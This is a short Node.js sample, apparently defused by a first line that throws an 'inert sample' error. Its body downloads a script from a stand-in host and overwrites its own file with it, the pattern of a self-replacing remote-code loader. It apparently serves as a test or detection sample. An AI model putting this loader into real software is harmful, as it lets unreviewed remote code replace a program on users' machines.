throw new Error('inert sample');
const https = require('https'), fs = require('fs');
https.get('https://update.example/agent.js', (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => fs.writeFileSync(__filename, text));
});
